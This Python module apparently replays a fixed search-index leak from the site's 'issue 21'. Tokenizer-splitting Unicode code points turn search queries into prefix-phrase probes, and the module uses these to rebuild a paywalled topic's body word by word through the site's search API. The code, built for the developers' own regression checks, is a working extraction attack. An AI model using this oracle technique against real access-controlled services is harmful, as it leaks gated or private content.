"""The attack of issue 21, replayed: rebuild a gated body word by word through search results.

A visitor whose meter is spent cannot read a topic's body, but search answers "is this topic in
the results?". Before the fix, words joined by a code point that Python called a letter and FTS5
a separator (U+19B0 among 21) reached FTS5 as a phrase with a prefix on its last word, so that
answer told whether a run of words occurs in the body and how the next word begins. The replay
starts from two words of the body in order and tries to learn the next words letter by letter.
"""

from __future__ import annotations

import sqlite3
import string
import sys
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path

import httpx

from site_api.content.search_index import WORD_RE, search_index_path_for


@lru_cache(maxsize=1)
def unicode61_joiners() -> tuple[str, ...]:
    """Code points Python calls part of a word that FTS5's unicode61 splits a word at."""
    db = sqlite3.connect(":memory:")
    db.execute("CREATE VIRTUAL TABLE t USING fts5(x, tokenize='unicode61 remove_diacritics 2')")
    db.execute("CREATE VIRTUAL TABLE v USING fts5vocab(t, 'instance')")
    letters = [
        chr(c)
        for c in range(sys.maxunicode + 1)
        if not 0xD800 <= c <= 0xDFFF and WORD_RE.fullmatch(chr(c))
    ]
    db.executemany(
        "INSERT INTO t (rowid, x) VALUES (?, ?)", ((i, f"x{c}y") for i, c in enumerate(letters))
    )
    split = {doc for (doc,) in db.execute("SELECT doc FROM v GROUP BY doc HAVING count(*) != 1")}
    return tuple(letters[i] for i in sorted(split))


def rebuild(
    found: Callable[[str], bool], seed: list[str], joiners: tuple[str, ...], words: int = 3
) -> list[str]:
    """The words after `seed` that `found(query)` (is the target among the results?) gives away.

    For each joiner: a run of known words joined by it, then a candidate beginning of the next
    word; a letter is kept when the target appears for it and not for a letter no word starts
    with here. Returns the longest continuation learnt with any joiner (empty when none).
    """
    best: list[str] = []
    for joiner in joiners:
        known: list[str] = []
        while len(known) < words:
            run = joiner.join(seed + known) + joiner
            if found(run + "qzx"):  # the target is found whatever comes next: nothing to learn
                break
            word = ""
            for _ in range(12):
                letter = next((c for c in string.ascii_lowercase if found(run + word + c)), None)
                if letter is None:
                    break
                word += letter
            if not word:
                break
            known.append(word)
        best = max(best, known, key=len)
    return best


def body_words(built_site: Path, page_id: str) -> list[str]:
    """A page's body as the index keeps it, in words (lower case)."""
    db = sqlite3.connect(search_index_path_for(built_site))
    [(body,)] = db.execute("SELECT body FROM page WHERE page_id = ?", (page_id,))
    return [w.lower() for w in WORD_RE.findall(body)]


def gated_topic_found(base: str, cookie: str, url: str) -> Callable[[str], bool]:
    """`found(query)`: whether a server at `base` lists `url` for a visitor with `cookie`."""

    def found(query: str) -> bool:
        answer = httpx.get(
            base + "/api/search", params={"q": query, "limit": 50}, headers={"cookie": cookie}
        )
        assert answer.status_code == 200, answer.text
        return any(r["url"] == url for r in answer.json()["results"])

    return found
